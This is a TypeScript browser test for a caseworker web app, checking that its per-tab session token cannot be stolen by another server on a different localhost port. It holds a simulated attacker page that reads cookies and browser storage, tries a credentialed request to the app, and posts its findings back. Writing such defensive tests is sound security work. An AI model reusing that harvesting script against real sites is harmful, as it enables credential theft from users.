// The browser host's credential never reaches another server on 127.0.0.1. Cookies ignore ports, so
// a token cookie went to every local web server the browser visited; now the printed URL is
// exchanged for a per-tab session that the page keeps in sessionStorage (per origin: port included)
// and sends as a header. In real Chromium: the app works (and survives a reload), then the same tab
// visits a listener on another loopback port, which records every byte it is sent and what its own
// page can read — and none of it opens /rpc/caseload:list. The printed token keeps working as Bearer.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { launchBrowser, rpc, startWebApp, tempDir, watchPage, type Browser, type InProcessApp } from '../support/e2e-support.js';

let app: InProcessApp;
let browser: Browser;
let page: Page;
let problems: string[] = [];
let dataDir: string;
let appOrigin: string;

/** Everything the listener was sent: request lines, headers, bodies (its own page's findings included). */
const heard: string[] = [];
let listener: http.Server;
let listenerOrigin: string;
let report = '';

/** The other local server's page: reads what it can and tries the app from inside the browser. */
function attackerPage(appPort: number): string {
  return `<!doctype html><title>Other local app</title><script>
(async () => {
  const found = { cookie: document.cookie, session: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage) };
  try {
    const r = await fetch('http://127.0.0.1:${appPort}/rpc/caseload:list', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
    found.fetchStatus = r.status;
    found.fetchBody = await r.text();
  } catch (e) { found.fetchError = String(e); }
  await fetch('/report', { method: 'POST', body: JSON.stringify(found) });
  document.title = 'reported';
})();
</script>`;
}

/** A call to the app's RPC from outside the browser, as the other server would make it. */
async function caseloadWith(headers: Record<string, string>): Promise<number> {
  const response = await fetch(`${appOrigin}/rpc/caseload:list`, { method: 'POST', headers: { 'Content-Type': 'application/json', ...headers }, body: '{}' });
  await response.arrayBuffer();
  return response.status;
}

beforeAll(async () => {
  dataDir = tempDir('web-session');
  app = await startWebApp(dataDir, { clients: 40 });
  appOrigin = new URL(app.url).origin;
  const appPort = Number(new URL(app.url).port);
  listener = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      heard.push(`${req.method} ${req.url}`, ...Object.entries(req.headers).map(([k, v]) => `${k}: ${String(v)}`), body);
      if (req.url === '/report') report = body;
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(req.url === '/report' ? 'thanks' : attackerPage(appPort));
    });
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', () => resolve()));
  listenerOrigin = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  browser = await launchBrowser();
  page = await browser.context.newPage();
  problems = watchPage(page);
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await new Promise<void>((resolve) => listener?.close(() => resolve()));
  fs.rmSync(dataDir, { recursive: true, force: true });
});

describe("the browser host's credential and another local server", () => {
  it('the app opens from the printed address, keeps no cookie, and leaves neither token nor session in the address bar', async () => {
    await page.goto(app.url);
    await page.waitForFunction(() => sessionStorage.getItem('caseworker.session') !== null && location.hash === '');
    expect(page.url()).not.toMatch(/token=|session=/);
    const list = await rpc<{ total: number }>(page, 'caseload:list', { limit: 5 });
    expect(list.total).toBeGreaterThan(0);
    expect(await browser.context.cookies()).toEqual([]);
    // A reload in the same tab keeps working: the session lives in this tab's storage.
    await page.reload();
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    expect((await rpc<{ total: number }>(page, 'caseload:list', { limit: 5 })).total).toBe(list.total);
    expect(problems.filter((p) => !/401/.test(p))).toEqual([]);
  });

  it('a listener on another loopback port, visited in the same tab, learns nothing that opens the caseload', async () => {
    await page.goto(`${listenerOrigin}/`);
    await page.waitForFunction(() => document.title === 'reported');
    await expect.poll(() => report).not.toBe('');
    const transcript = heard.join('\n');
    expect(transcript).not.toMatch(/^cookie:/im);
    const findings = JSON.parse(report) as { cookie: string; session: string; local: string; fetchStatus?: number; fetchError?: string };
    expect(findings.cookie).toBe('');
    expect(findings.session).toBe('{}');
    expect(findings.local).toBe('{}');
    // The in-browser attempt on the app is refused (or not readable at all), never answered with data.
    expect(findings.fetchStatus === undefined || findings.fetchStatus === 403).toBe(true);

    // Every word the listener was sent, tried as each kind of credential.
    const candidates = new Set(transcript.split(/[\s;,=:"'{}]+/).filter((word) => word.length >= 16));
    expect(candidates.size).toBeGreaterThan(0);
    for (const word of candidates) {
      expect(await caseloadWith({ Authorization: `Bearer ${word}` }), word).toBe(401);
      expect(await caseloadWith({ 'X-Caseworker-Session': word }), word).toBe(401);
    }
    const cookies = await browser.context.cookies();
    expect(cookies).toEqual([]);
  });

  it('the printed token keeps working as Authorization: Bearer on /rpc/* (scripts and tests)', async () => {
    const token = new URL(app.url).searchParams.get('token')!;
    expect(await caseloadWith({ Authorization: `Bearer ${token}` })).toBe(200);
    expect(await caseloadWith({ Cookie: `caseworker_token_${new URL(app.url).port}=${token}` })).toBe(401);
  });
});
